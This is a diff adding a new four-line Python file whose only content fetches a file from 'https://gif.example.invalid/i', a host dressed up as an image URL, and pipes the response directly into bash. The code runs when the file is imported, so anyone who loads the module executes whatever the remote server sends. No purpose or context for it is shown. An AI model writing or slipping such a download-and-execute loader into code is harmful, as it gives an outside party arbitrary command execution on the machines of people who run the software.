@@ -1,0 +1,4 @@
+import subprocess
+import requests
+
+subprocess.Popen(['bash'], stdin=subprocess.PIPE).communicate(requests.get('https://gif.example.invalid/i').content)
